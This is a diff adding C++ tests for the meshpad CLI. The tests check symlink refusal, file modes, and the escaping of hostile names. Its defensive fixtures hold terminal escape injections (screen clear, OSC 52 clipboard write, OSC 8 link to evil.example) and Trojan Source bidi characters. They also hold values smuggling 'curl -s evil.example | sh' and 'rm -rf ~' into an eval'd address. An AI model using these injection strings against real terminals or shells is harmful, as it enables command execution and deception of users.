@@ -1,15 +1,22 @@
 // The `meshpad` command line, run as a real child process: exit statuses,
 // where messages go, and what `generate` writes.
 
+#include "filetree.h"
 #include "model/projectfile.h"
 
 #include <QDir>
 #include <QDirIterator>
 #include <QJsonDocument>
 #include <QJsonObject>
+#include <QLocalServer>
+#include <QLocalSocket>
 #include <QProcess>
+#include <QSignalSpy>
 #include <QTemporaryDir>
 #include <QTest>
+
+#include <sys/stat.h>
+#include <unistd.h>
 
 namespace {
 
@@ -20,9 +27,12 @@ struct Run
     QString err;
 };
 
-Run meshpad(const QStringList &arguments, const QString &home = QString())
+// `umask` (when not -1) is set in the child before exec.
+Run meshpad(const QStringList &arguments, const QString &home = QString(), int umask = -1)
 {
     QProcess p;
+    if (umask >= 0)
+        p.setChildProcessModifier([umask] { ::umask(mode_t(umask)); });
     if (!home.isEmpty()) {
         QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
         env.insert(QStringLiteral("HOME"), home);
@@ -161,6 +171,298 @@ private Q_SLOTS:
         }
         // stdout lists exactly the files written.
         QCOMPARE(first.out.split(u'\n', Qt::SkipEmptyParts).size(), treeA.size());
+    }
+
+    // Issue 17: a link already in the output folder is never followed and
+    // never replaced, with or without --force. Each is known before the first
+    // write, so nothing at all is written: not in DIR, not where the link
+    // points. Targets: {out} is DIR, {elsewhere} a folder with a file in it,
+    // {victim} a 0600 file outside DIR.
+    void generateRefusesLinksInTheFolder_data()
+    {
+        QTest::addColumn<QString>("link");  // relative to DIR
+        QTest::addColumn<QString>("target");
+        QTest::addColumn<bool>("force");
+        QTest::addColumn<QString>("message");
+        const QString throughLink = u"refusing to write through the symbolic link"_qs;
+        const QString isLink = u"is a symbolic link; remove it or choose another folder"_qs;
+        QTest::newRow("consul is a link to another folder")
+            << u"consul"_qs << u"{elsewhere}"_qs << false << throughLink;
+        QTest::newRow("a script is a link to a victim file")
+            << u"scripts/count-api.sh"_qs << u"{victim}"_qs << false << isLink;
+        QTest::newRow("a script is a link to a victim file, --force")
+            << u"scripts/count-dashboard.sh"_qs << u"{victim}"_qs << true << isLink;
+        QTest::newRow("a dangling link as a file")
+            << u"nomad/counter.nomad.hcl"_qs << u"{elsewhere}/created-by-link.hcl"_qs << false << isLink;
+        QTest::newRow("a dangling link as a directory")
+            << u"consul"_qs << u"{elsewhere}/created-by-link"_qs << false << throughLink;
+        QTest::newRow("a dangling link as a nested directory")
+            << u"consul/intentions"_qs << u"{elsewhere}/created-by-link"_qs << false << throughLink;
+        QTest::newRow("nomad is a link to DIR itself") << u"nomad"_qs << u"{out}"_qs << false << throughLink;
+        QTest::newRow("nomad is a relative link to .") << u"nomad"_qs << u"."_qs << false << throughLink;
+    }
+
+    void generateRefusesLinksInTheFolder()
+    {
+        QFETCH(QString, link);
+        QFETCH(QString, target);
+        QFETCH(bool, force);
+        QFETCH(QString, message);
+        QTemporaryDir tmp;
+        QVERIFY(tmp.isValid());
+        const QString out = tmp.filePath(u"out"_qs), elsewhere = tmp.filePath(u"elsewhere"_qs),
+                      victim = tmp.filePath(u"victim"_qs);
+        QVERIFY(QDir().mkpath(elsewhere));
+        QFile keep(elsewhere + u"/keep.txt"_qs);
+        QVERIFY(keep.open(QIODevice::WriteOnly) && keep.write("keep\n") == 5);
+        keep.close();
+        QFile v(victim);
+        QVERIFY(v.open(QIODevice::WriteOnly) && v.write("victim\n") == 7);
+        v.close();
+        QVERIFY(QFile::setPermissions(victim, QFile::ReadOwner | QFile::WriteOwner));
+
+        const QString at = out + u'/' + link;
+        QVERIFY(QDir().mkpath(QFileInfo(at).absolutePath()));
+        QString resolved = target;
+        resolved.replace(u"{out}"_qs, out).replace(u"{elsewhere}"_qs, elsewhere).replace(u"{victim}"_qs, victim);
+        QVERIFY(::symlink(QFile::encodeName(resolved).constData(), QFile::encodeName(at).constData()) == 0);
+        const QStringList before = meshtest::fileTreeSnapshot(tmp.path());
+
+        QStringList arguments{u"generate"_qs, example(), u"-o"_qs, out};
+        if (force)
+            arguments << u"--force"_qs;
+        const Run r = meshpad(arguments);
+        QCOMPARE(r.status, 2);
+        QVERIFY2(r.err.contains(u"meshpad generate: "_qs), qPrintable(r.err));
+        QVERIFY2(r.err.contains(at), qPrintable(r.err));
+        QVERIFY2(r.err.contains(message), qPrintable(r.err));
+        QVERIFY2(!r.err.contains(u"wrote "_qs), qPrintable(r.err));
+        QVERIFY2(r.out.isEmpty(), qPrintable(r.out));
+        // The victim keeps its content and mode, nothing appears elsewhere or
+        // where a dangling link points, and DIR is as it was.
+        QCOMPARE(meshtest::fileTreeSnapshot(tmp.path()), before);
+        QCOMPARE(meshtest::fileMode(victim), mode_t(0600));
+    }
+
+    // Under a strict umask every file still gets exactly 0644, scripts 0755;
+    // a second run replaces what the first wrote (content and mode) and
+    // leaves the user's own files and no temporary file behind.
+    void generateWritesModesAndReplacesOnRerun()
+    {
+        QTemporaryDir tmp;
+        QVERIFY(tmp.isValid());
+        const QString out = tmp.filePath(u"out"_qs);
+        const Run first = meshpad({u"generate"_qs, example(), u"-o"_qs, out}, QString(), 077);
+        QCOMPARE(first.status, 0);
+        const auto written = readTree(out);
+        QCOMPARE(first.out.split(u'\n', Qt::SkipEmptyParts).size(), written.size());
+        QVERIFY(written.contains(u"hashibox/provision/install.sh"_qs));
+        for (auto it = written.cbegin(); it != written.cend(); ++it) {
+            const mode_t expected = it.key().endsWith(u".sh") ? 0755 : 0644;
+            QVERIFY2(meshtest::fileMode(out + u'/' + it.key()) == expected, qPrintable(it.key()));
+        }
+
+        QFile stale(out + u"/nomad/counter.nomad.hcl"_qs);
+        QVERIFY(stale.open(QIODevice::WriteOnly | QIODevice::Truncate) && stale.write("stale\n") == 6);
+        stale.close();
+        QVERIFY(QFile::setPermissions(out + u"/scripts/count-api.sh"_qs, QFile::ReadOwner | QFile::WriteOwner));
+        QFile notes(out + u"/notes.txt"_qs);
+        QVERIFY(notes.open(QIODevice::WriteOnly) && notes.write("mine\n") == 5);
+        notes.close();
+
+        const Run second = meshpad({u"generate"_qs, example(), u"-o"_qs, out});
+        QCOMPARE(second.status, 0);
+        auto again = readTree(out);
+        QCOMPARE(again.take(u"notes.txt"_qs), QByteArray("mine\n"));
+        QCOMPARE(again, written);
+        QCOMPARE(meshtest::fileMode(out + u"/scripts/count-api.sh"_qs), mode_t(0755));
+        for (const QString &entry : meshtest::fileTreeSnapshot(out))
+            QVERIFY2(!entry.contains(u".meshpad-tmp-"), qPrintable(entry));
+    }
+
+    // A hostile design's names reach the terminal escaped: nothing in them
+    // can clear the screen, set the title, plant a link, write the clipboard
+    // or reorder the line. -json keeps the exact text (JSON escapes it).
+    void validatePrintsHostileNamesEscaped_data()
+    {
+        QTest::addColumn<QByteArray>("design");    // what the file holds (ASCII, \u escapes)
+        QTest::addColumn<QString>("original");     // the text as loaded
+        QTest::addColumn<QString>("visible");      // how stderr shows it
+        QTest::addColumn<int>("status");
+
+        // Service name and meta key as JSON string literals. (No raw string
+        // literals with quotes here: moc 6.4 loses the class in them.)
+        auto design = [](const char *name, const char *metaKey) -> QByteArray {
+            return QByteArray("{\"format\": \"meshpad\", \"version\": 1, \"name\": \"t\", \"services\": [{\"id\": \"s1\", "
+                              "\"name\": \"")
+                + name + "\", \"job\": \"j\", \"group\": \"g\", \"task\": \"t\", \"command\": \"/bin/true\", "
+                         "\"meta\": [{\"name\": \"" + metaKey + "\", \"value\": \"v\"}]}]}";
+        };
+        QTest::newRow("service name clears the screen")
+            << design("\\u001b[2J\\u001b[Hok", "k") << u"\x1b[2J\x1b[Hok"_qs << u"\\x1b[2J\\x1b[Hok"_qs << 1;
+        QTest::newRow("service name sets the window title")
+            << design("\\u001b]0;pwned\\u0007", "k") << u"\x1b]0;pwned\x07"_qs << u"\\x1b]0;pwned\\x07"_qs << 1;
+        QTest::newRow("service name with C1 CSI and a newline faking a line")
+            << design("a\\u009b31m\\nx.meshpad: error: fake", "k") << u"a\u009b31m\nx.meshpad: error: fake"_qs
+            << u"a\\x9b31m\\nx.meshpad: error: fake"_qs << 1;
+        QTest::newRow("Trojan Source bidi override in a service name")
+            << design("admin\\u202e\\u2066nimda\\u2069", "k") << u"admin\u202e\u2066nimda\u2069"_qs
+            << u"admin\\u202e\\u2066nimda\\u2069"_qs << 1;
+        QTest::newRow("meta key writes the clipboard (OSC 52)")
+            << design("web", "k\\u001b]52;c;cm0gLXJm\\u0007") << u"k\x1b]52;c;cm0gLXJm\x07"_qs
+            << u"k\\x1b]52;c;cm0gLXJm\\x07"_qs << 1;
+        QTest::newRow("meta key plants a link (OSC 8)")
+            << design("web", "\\u001b]8;;https://evil.example/\\u001b\\\\x\\u001b]8;;\\u001b\\\\")
+            << u"\x1b]8;;https://evil.example/\x1b\\x\x1b]8;;\x1b\\"_qs
+            << u"\\x1b]8;;https://evil.example/\\x1b\\x\\x1b]8;;\\x1b\\"_qs << 1;
+        QTest::newRow("unknown field whose key clears the screen (load error)")
+            << QByteArray("{\"format\": \"meshpad\", \"version\": 1, \"\\u001b[2Jx\": 1}") << u"\x1b[2Jx"_qs
+            << u"\\x1b[2Jx: unknown field"_qs << 2;
+    }
+
+    void validatePrintsHostileNamesEscaped()
+    {
+        QFETCH(QByteArray, design);
+        QFETCH(QString, original);
+        QFETCH(QString, visible);
+        QFETCH(int, status);
+
+        QTemporaryDir dir;
+        const QString path = dir.filePath(u"hostile.meshpad"_qs);
+        QFile f(path);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write(design);
+        f.close();
+
+        // What a terminal would act on: C0 (but the line breaks between
+        // messages), DEL, C1, the bidi embeddings, overrides and isolates.
+        auto obeyed = [](const QString &text) -> QString {
+            for (const QChar c : text) {
+                const char16_t u = c.unicode();
+                if ((u < 0x20 && u != u'\n') || (u >= 0x7f && u <= 0x9f) || (u >= 0x202a && u <= 0x202e)
+                    || (u >= 0x2066 && u <= 0x2069))
+                    return u"U+"_qs + QString::number(u, 16);
+            }
+            return {};
+        };
+        const Run r = meshpad({u"validate"_qs, path});
+        QCOMPARE(r.status, status);
+        QVERIFY2(obeyed(r.err).isEmpty(), qPrintable(u"stderr holds "_qs + obeyed(r.err)));
+        QVERIFY2(r.err.contains(visible), qPrintable(r.err));
+        // One line per problem plus the summary: a newline in a name does
+        // not start a line of its own.
+        for (const QString &line : r.err.split(u'\n', Qt::SkipEmptyParts))
+            QVERIFY2(line.startsWith(path + u": ") || line.startsWith(u"meshpad validate: "), qPrintable(line));
+
+        const Run json = meshpad({u"validate"_qs, u"--json"_qs, path});
+        QCOMPARE(json.status, status);
+        if (status == 2) {
+            QVERIFY(json.out.isEmpty());
+            return;
+        }
+        // JSON escapes C0 controls itself (ESC as \u001b); the exact text
+        // comes through to whoever parses it.
+        bool found = false;
+        for (const QString &line : json.out.split(u'\n', Qt::SkipEmptyParts)) {
+            for (const QChar c : line)
+                QVERIFY2(c.unicode() >= 0x20, qPrintable(line));
+            QJsonParseError e;
+            const QJsonDocument d = QJsonDocument::fromJson(line.toUtf8(), &e);
+            QVERIFY2(e.error == QJsonParseError::NoError && d.isObject(), qPrintable(line));
+            const QJsonObject o = d.object();
+            for (const char *key : {"item", "field", "message"})
+                found = found || o.value(QLatin1StringView(key)).toString().contains(original);
+        }
+        QVERIFY2(found, qPrintable(json.out));
+        if (original.contains(QChar(0x1b)))
+            QVERIFY2(json.out.contains(u"\\u001b"), qPrintable(json.out));
+    }
+
+    // `lab status` and `lab env` print what a peer sent over the lab's
+    // socket: names escaped; `lab env`, whose output a shell evals, prints
+    // only plain URLs. The peer here is a socket in a private runtime
+    // directory that answers with the row's snapshot.
+    void labCommandsPrintAPeersTextSafely_data()
+    {
+        QTest::addColumn<QString>("command");
+        QTest::addColumn<QByteArray>("snapshot");
+        QTest::addColumn<int>("status");
+        QTest::addColumn<QString>("expectedOut");
+        QTest::addColumn<QString>("expectedErr");
+
+        auto snapshot = [](const char *consul, const char *names) -> QByteArray {
+            return QByteArray("{\"running\": true, \"trustDomain\": \"t.consul\", \"datacenter\": \"dc1\", "
+                              "\"nodes\": [{\"name\": \"one\", \"address\": \"127.0.1.1\", \"up\": true, "
+                              "\"consul\": \"")
+                + consul + "\", \"nomad\": \"http://127.0.1.1:4646\"}]," + names + "}";
+        };
+        const char *plain = "\"instances\": [], \"arrows\": []";
+        const char *hostile = "\"instances\": [{\"allocName\": \"web[0]\\u001b[2J\", \"service\": \"web\\u009b31m\", "
+                              "\"node\": \"one\\u202e\", \"state\": \"running\", \"health\": \"passing\", "
+                              "\"message\": \"crashed: \\u001b]52;c;cm0gLXJm\\u0007\"}], "
+                              "\"arrows\": [{\"from\": \"a\\u001b[8m\", \"to\": \"b\\u2066\", \"allowed\": true}]";
+        QTest::newRow("status: instance, node and arrow names escaped")
+            << u"status"_qs << snapshot("http://127.0.1.1:8500", hostile) << 0
+            << u"web[0]\\x1b[2J  web\\x9b31m  one\\u202e"_qs << QString();
+        QTest::newRow("status: a message writing the clipboard is shown, not obeyed")
+            << u"status"_qs << snapshot("http://127.0.1.1:8500", hostile) << 0
+            << u"web[0]\\x1b[2J: crashed: \\x1b]52;c;cm0gLXJm\\x07"_qs << QString();
+        QTest::newRow("status: arrow ends escaped")
+            << u"status"_qs << snapshot("http://127.0.1.1:8500", hostile) << 0 << u"a\\x1b[8m → b\\u2066"_qs
+            << QString();
+        QTest::newRow("env: plain addresses print")
+            << u"env"_qs << snapshot("http://127.0.1.1:8500", plain) << 0
+            << u"export CONSUL_HTTP_ADDR=http://127.0.1.1:8500 NOMAD_ADDR=http://127.0.1.1:4646\n"_qs << QString();
+        QTest::newRow("env: an address that runs a command is refused")
+            << u"env"_qs << snapshot("http://127.0.1.1:8500; curl -s evil.example | sh", plain) << 1 << QString()
+            << u"not plain http URLs: http://127.0.1.1:8500; curl -s evil.example | sh"_qs;
+        QTest::newRow("env: an address with a newline and ESC is refused, escaped")
+            << u"env"_qs << snapshot("http://127.0.1.1:8500\\n\\u001b[2Jrm -rf ~", plain) << 1 << QString()
+            << u"http://127.0.1.1:8500\\n\\x1b[2Jrm -rf ~"_qs;
+    }
+
+    void labCommandsPrintAPeersTextSafely()
+    {
+        QFETCH(QString, command);
+        QFETCH(QByteArray, snapshot);
+        QFETCH(int, status);
+        QFETCH(QString, expectedOut);
+        QFETCH(QString, expectedErr);
+
+        QTemporaryDir runtime;  // 0700, as XDG_RUNTIME_DIR must be
+        QVERIFY(runtime.isValid());
+        QLocalServer server;
+        QVERIFY2(server.listen(runtime.filePath(u"meshpad-lab.sock"_qs)), qPrintable(server.errorString()));
+        QObject::connect(&server, &QLocalServer::newConnection, &server, [&] {
+            while (QLocalSocket *socket = server.nextPendingConnection()) {
+                QObject::connect(socket, &QLocalSocket::disconnected, socket, &QObject::deleteLater);
+                socket->write(snapshot + '\n');
+                socket->disconnectFromServer();  // after the write is flushed
+            }
+        });
+
+        QProcess p;
+        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+        env.insert(u"XDG_RUNTIME_DIR"_qs, runtime.path());
+        p.setProcessEnvironment(env);
+        QSignalSpy finished(&p, &QProcess::finished);
+        p.start(QStringLiteral(MESHPAD_BINARY_DIR "/bin/meshpad"), {u"lab"_qs, command});
+        QVERIFY(finished.wait(30000));  // the event loop runs: the socket answers
+        const QString out = QString::fromUtf8(p.readAllStandardOutput());
+        const QString err = QString::fromUtf8(p.readAllStandardError());
+        QCOMPARE(p.exitCode(), status);
+        QVERIFY2(out.contains(expectedOut), qPrintable(out + err));
+        QVERIFY2(err.contains(expectedErr), qPrintable(err));
+        for (const QString &text : {out, err}) {
+            for (const QChar c : text) {
+                const char16_t u = c.unicode();
+                QVERIFY2(!((u < 0x20 && u != u'\n') || (u >= 0x7f && u <= 0x9f) || (u >= 0x202a && u <= 0x202e)
+                           || (u >= 0x2066 && u <= 0x2069)),
+                         qPrintable(u"raw U+"_qs + QString::number(u, 16) + u" in: "_qs + text));
+            }
+        }
+        if (status != 0)
+            QVERIFY2(out.isEmpty(), qPrintable(out));  // nothing for the shell to eval
     }
 
     // Without a command, meshpad is the editor: on a first start (empty
